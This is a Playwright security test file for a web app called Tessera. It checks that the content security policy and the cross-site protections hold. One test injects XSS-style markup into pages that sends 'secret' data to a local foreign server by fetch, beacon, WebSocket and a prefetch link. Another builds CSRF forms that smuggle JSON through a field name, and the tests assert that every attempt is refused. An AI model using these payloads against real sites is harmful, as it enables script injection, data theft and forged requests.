import { once } from "node:events";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { BrowserContext, Page } from "@playwright/test";
import { pagesOfApp } from "../http/app-routes.ts";
import { createCredential, createSource, newCredential, unique } from "../http/credentials.ts";
import { received } from "../http/emulator.ts";
import { newVisitor, startAtLocalhost } from "../localhost.ts";
import { client, OidcProvider } from "../oidc-provider.ts";
import type { Tessera } from "../tessera.ts";
import { AUTHENTICATE, chooseFromMenu, fill, openOverlay, overlayOf, tileRadio } from "./authenticate.ts";
import { countCredentials, expect, owner, test } from "./desk.ts";

/** Collects what a context's pages break of their policy, as the pages themselves are told. */
async function collectViolations(context: BrowserContext): Promise<string[]> {
  const violations: string[] = [];
  await context.exposeBinding("reportViolation", (_, text: string) => violations.push(text));
  await context.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (event) => {
      const { effectiveDirective, blockedURI, sourceFile, lineNumber, sample } = event;
      const report = Reflect.get(window, "reportViolation") as (text: string) => void;
      report([effectiveDirective, blockedURI, sourceFile, lineNumber, sample].join(" "));
    });
  });
  // What is refused before any script runs is said on the console alone.
  context.on("console", (message) => {
    if (/content security policy/i.test(message.text())) violations.push(message.text());
  });
  return violations;
}

test.describe("the policy", () => {
  test.describe.configure({ timeout: 180_000 });
  test.use({ ownContext: true });

  test("is kept by every page: signed in, with the overlay and its menus, where nothing is, and on errors", async ({
    desk,
    api,
    tessera,
  }) => {
    const violations = await collectViolations(desk.context());
    const shown = async (address: string, heading: string) => {
      await desk.goto(address);
      await expect(desk.getByRole("heading", { name: heading, exact: true })).toBeVisible();
    };
    const { id } = await createCredential(api, { name: "Ash" });
    const source = await createSource(api, id, { name: "Nightly accounts" });
    await shown("/sources", "Sources");
    await desk.getByRole("radio", { name: "Dark", exact: true }).check({ force: true });
    await desk.getByRole("link", { name: "Add source", exact: true }).click();
    await expect(desk.getByRole("heading", { name: "New source", exact: true })).toBeVisible();
    await shown("/destinations", "Destinations");
    await shown(`/sources/${source.id}`, "Nightly accounts");
    await shown(`/sources/new/people-ai/configure?credential=${id}`, "Configure the new source");
    await desk.getByRole("button", { name: "Test", exact: true }).click();
    await expect(desk.getByRole("table")).toBeVisible();

    const overlay = await openOverlay(desk);
    await overlay.save.click();
    await fill(overlay, { name: "Birch", description: "", key: `demo-valid-${unique()}` });
    await overlay.test.click();
    await expect(overlay.outcome).toContainText("Verified");
    await overlay.save.click();
    await expect(tileRadio(desk, "Birch")).toBeChecked();
    await shown(`${AUTHENTICATE}?add`, "Authenticate");
    await expect(overlayOf(desk).dialog).toBeVisible();
    await desk.goto(AUTHENTICATE);
    await chooseFromMenu(desk, "Birch", "Delete");

    await shown("/sources/no/such/page", "There is nothing here");
    await shown("/no.such.page", "There is nothing here");
    await shown(`/sources/${crypto.randomUUID()}`, "There is nothing here");
    for (const pattern of pagesOfApp) {
      await desk.goto(
        pattern.replace(
          /\[\w+\]/g,
          (name) => ({ "[direction]": "sources", "[connector]": "people-ai" })[name] ?? source.id,
        ),
      );
    }
    await tessera.sql(`ALTER TABLE "Integration" RENAME TO "Elsewhere"`);
    try {
      await shown("/sources", "This page could not be loaded");
    } finally {
      await tessera.sql(`ALTER TABLE "Elsewhere" RENAME TO "Integration"`);
    }
    await desk.getByRole("button", { name: "Try again", exact: true }).click();
    await expect(desk.getByRole("heading", { name: "Sources", exact: true })).toBeVisible();
    expect(violations).toEqual([]);
  });

  test("is kept by what a visitor sees who is not signed in", async ({ browser, tessera }) => {
    const context = await browser.newContext({ baseURL: tessera.url });
    const violations = await collectViolations(context);
    const page = await context.newPage();
    await page.goto("/nothing");
    await expect(page.getByRole("heading", { name: "Sign in", exact: true })).toBeVisible();
    await page.getByRole("button", { name: "Sign in", exact: true }).click();
    await expect(page.getByLabel("Email", { exact: true })).toHaveAccessibleDescription(/Enter your email/);
    await page.getByLabel("Email", { exact: true }).fill(owner.email);
    await page.getByLabel("Password", { exact: true }).fill(owner.password);
    await page.getByRole("button", { name: "Sign in", exact: true }).click();
    await expect(page.getByRole("heading", { name: "There is nothing here" })).toBeVisible();
    expect(violations).toEqual([]);
    await context.close();
  });

  test("is kept on the way to a provider and back, whether or not that signs somebody in", async ({
    browser,
  }) => {
    const provider = await OidcProvider.start();
    const place = await startAtLocalhost({
      OIDC_ISSUER: provider.issuer,
      OIDC_CLIENT_ID: client.id,
      OIDC_CLIENT_SECRET: client.secret,
      OIDC_NAME: "Example Login",
    });
    const visitor = await newVisitor(place);
    expect((await visitor.post("/api/v1/owner", { data: owner })).status()).toBe(201);
    await visitor.dispose();
    const context = await browser.newContext({ baseURL: place.url });
    const violations = await collectViolations(context);
    const page = await context.newPage();
    const goOn = page.getByRole("button", { name: "Continue with Example Login", exact: true });

    provider.person = { sub: "stranger", email: "stranger@example.com", email_verified: true };
    await page.goto("/destinations");
    await goOn.click();
    await expect(page.getByText(/There is no Tessera account with the email address/)).toBeVisible();

    provider.person = { sub: "owner", email: owner.email, email_verified: true };
    await page.goto("/destinations");
    await goOn.click();
    await expect(page.getByRole("heading", { name: "Destinations", exact: true })).toBeVisible();
    await expect(page).toHaveURL("/destinations");
    expect(violations).toEqual([]);
    await context.close();
    await place.tessera.dispose();
    await provider.stop();
  });
});

/** A site that is not Tessera's, which remembers what it was asked for. */
async function startForeignSite(document = "") {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    if (request.url !== "/") asked.push(`${request.method} ${request.url}`);
    response.setHeader("content-type", "text/html").setHeader("access-control-allow-origin", "*");
    response.end(request.url === "/" ? document : "");
  }).listen(0);
  await once(server, "listening");
  // To a browser, localhost and 127.0.0.1 are two sites.
  const url = `http://localhost:${(server.address() as AddressInfo).port}`;
  const close = async () => {
    server.closeAllConnections();
    server.close();
    await once(server, "close");
  };
  return { url, asked, close };
}

/** A page of Tessera's with this written into it, as whoever found a hole in it would. */
async function gotoWithInjected(page: Page, address: string, html: string): Promise<void> {
  await page.route(address, async (route) => {
    const response = await route.fetch();
    const body = (await response.text()).replace("</body>", `${html}</body>`);
    expect(body).toContain(html);
    await route.fulfill({ response, body });
  });
  await page.goto(address);
}

test.describe("what an attacker writes into a page", () => {
  test("neither runs, nor loads, nor sends anything", async ({ browser, tessera, ownerState }) => {
    const foreign = await startForeignSite();
    const context = await browser.newContext({ baseURL: tessera.url, storageState: ownerState });
    const page = await context.newPage();
    const violations: string[] = [];
    await page.exposeBinding("reportViolation", (_, text: string) => violations.push(text));
    await page.addInitScript(() => {
      document.addEventListener("securitypolicyviolation", (event) => {
        const report = Reflect.get(window, "reportViolation") as (text: string) => void;
        report(event.effectiveDirective);
      });
    });
    await gotoWithInjected(
      page,
      "/sources",
      `<base href="${foreign.url}/base/">
       <script>window.ran = "an inline script"</script>
       <script nonce="">window.ran = "a script without a nonce"</script>
       <script nonce="AAAAAAAAAAAAAAAAAAAAAA==">window.ran = "a script with another nonce"</script>
       <script src="${foreign.url}/script.js"></script>
       <script src="/connectors/people-ai.svg"></script>
       <script src="data:text/javascript,window.ran='data'"></script>
       <img id="injected" src="${foreign.url}/image.png?secret" onerror="window.ran = 'an event handler'">
       <a id="link" href="javascript:window.ran='a link'">click</a>
       <style>:root { --injected: 1 }</style>
       <p id="styled" style="position: fixed; inset: 0">cover</p>
       <link rel="stylesheet" href="${foreign.url}/style.css">
       <link rel="prefetch" href="${foreign.url}/prefetch?secret">
       <iframe src="${foreign.url}/frame"></iframe>
       <object data="${foreign.url}/object"></object>
       <form id="form" action="${foreign.url}/form" method="post"><input name="secret"></form>`,
    );
    await expect(page.getByRole("heading", { name: "Sources", exact: true })).toBeVisible();
    await page.locator("#link").dispatchEvent("click");
    await page.locator("#form").evaluate((form: HTMLFormElement) => form.submit());

    const sent = await page.evaluate(async (url) => {
      const outcome = (promise: Promise<unknown>) => promise.then(() => "sent").catch(() => "refused");
      const socket = new Promise((resolve, reject) => {
        try {
          const opened = new WebSocket(url.replace("http", "ws"));
          opened.onopen = resolve;
          opened.onerror = reject;
        } catch (error) {
          reject(error);
        }
      });
      navigator.sendBeacon(`${url}/beacon`, "secret");
      setTimeout("window.ran = 'a timer'", 0);
      // In a task of the page's own: what a test evaluates itself may do more.
      const evaluated = new Promise((resolve, reject) => {
        setTimeout(() => {
          try {
            resolve(new Function("window.ran = 'evaluated text'")());
          } catch (error) {
            reject(error);
          }
        }, 0);
      });
      return Promise.all([
        outcome(fetch(`${url}/fetch?secret`, { mode: "no-cors" })),
        outcome(fetch(`${url}/fetch?secret`)),
        outcome(socket),
        outcome(evaluated),
      ]);
    }, foreign.url);
    expect(sent).toEqual(["refused", "refused", "refused", "refused"]);

    expect(await page.evaluate(() => Reflect.get(window, "ran"))).toBeUndefined();
    const styles = await page.evaluate(() => {
      const styled = document.querySelector("#styled");
      return [
        getComputedStyle(document.documentElement).getPropertyValue("--injected"),
        styled && getComputedStyle(styled).position,
      ];
    });
    expect(styles).toEqual(["", "static"]);
    expect(page.url()).toBe(`${tessera.url}/sources`);
    for (const directive of ["base-uri", "script-src-elem", "script-src-attr", "img-src", "style-src-attr"]) {
      expect(violations).toContain(directive);
    }
    for (const directive of ["connect-src", "form-action", "frame-src", "object-src", "style-src-elem"]) {
      expect(violations).toContain(directive);
    }
    expect(foreign.asked).toEqual([]);
    await context.close();
    await foreign.close();
  });
});

test.describe("a page of another site", () => {
  test("changes nothing by forms and fetches, while its visitor is signed in", async ({
    browser,
    tessera,
    ownerState,
    organization,
  }) => {
    const foreign = await startForeignSite("<title>Elsewhere</title>");
    const context = await browser.newContext({ storageState: ownerState });
    const page = await context.newPage();
    const target = `${tessera.url}/api/v1/credentials`;
    const before = await changes(tessera, organization);

    for (const enctype of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
      await page.goto(foreign.url);
      const answered = page.waitForResponse(target);
      await page.evaluate(
        ({ action, encoding, name }) => {
          const form = document.createElement("form");
          Object.assign(form, { action, method: "post", enctype: encoding });
          // As text, a field like this one reads as JSON.
          const field = document.createElement("input");
          Object.assign(field, { name: `${name.slice(0, -1)},"description":"`, value: '"}' });
          form.append(field);
          document.body.append(form);
          form.submit();
        },
        { action: target, encoding: enctype, name: JSON.stringify(newCredential()) },
      );
      await page.waitForURL(target);
      const response = await answered;
      expect(response.status(), enctype).toBe(403);
    }

    await page.goto(foreign.url);
    const outcomes = await page.evaluate(
      async ({ url, text }) => {
        const outcome = async (path: string, init: RequestInit) => {
          const response = await fetch(url + path, { credentials: "include", ...init }).catch(() => null);
          // Nothing of an opaque answer can be read.
          return response === null || response.type === "opaque" ? "nothing" : await response.text();
        };
        const json = { "content-type": "application/json" };
        return Promise.all([
          outcome("/api/v1/credentials", { method: "POST", mode: "no-cors", body: text }),
          outcome("/api/v1/credentials", { method: "POST", body: text }),
          outcome("/api/v1/credentials", { method: "POST", headers: json, body: text }),
          outcome("/api/v1/credentials", {}),
          outcome("/api/auth/sign-out", { method: "POST", mode: "no-cors", body: "{}" }),
          outcome("/sources", {}),
        ]);
      },
      { url: tessera.url, text: JSON.stringify(newCredential()) },
    );
    expect(outcomes).toEqual(outcomes.map(() => "nothing"));
    expect(await changes(tessera, organization)).toEqual(before);
    const [cookie] = (await context.cookies(tessera.url)).filter(({ name }) =>
      name.includes("session_token"),
    );
    expect(cookie?.value).toBe(ownerState.cookies.find(({ name }) => name.includes("session_token"))?.value);
    await context.close();
    await foreign.close();
  });

  test("cannot show Tessera in a frame, nor reach into a window of it", async ({
    browser,
    tessera,
    ownerState,
  }) => {
    const foreign = await startForeignSite(`<iframe src="${tessera.url}/sources"></iframe>`);
    const context = await browser.newContext({ storageState: ownerState });
    const page = await context.newPage();
    await page.goto(foreign.url);
    await expect(page.frameLocator("iframe").getByRole("heading", { name: "Sources" })).toHaveCount(0);
    const [opened] = await Promise.all([
      context.waitForEvent("page"),
      page.evaluate((url) => {
        window.open(url);
      }, `${tessera.url}/sources`),
    ]);
    await expect(opened.getByRole("heading", { name: "Sources", exact: true })).toBeVisible();
    expect(await opened.evaluate(() => window.opener)).toBeNull();
    await context.close();
    await foreign.close();
  });
});

/** What another site's page could have changed or set off. */
async function changes(tessera: Tessera, organization: string) {
  const [sessions] = await tessera.sql(`SELECT count(*)::int AS count FROM "Session"`);
  return {
    credentials: await countCredentials(tessera, organization),
    sessions,
    sent: (await received(tessera)).length,
  };
}
